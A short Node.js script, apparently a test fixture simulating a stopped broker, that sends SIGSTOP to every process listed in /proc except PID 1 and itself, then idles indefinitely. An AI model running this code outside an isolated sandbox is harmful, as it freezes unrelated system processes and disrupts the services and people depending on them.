// A broker that the app stops.
import fs from 'node:fs';
for (const p of fs.readdirSync('/proc')) {
  if (p > 1 && p != process.pid) try { process.kill(+p, 'SIGSTOP'); } catch {}
}
setInterval(() => {}, 1000);
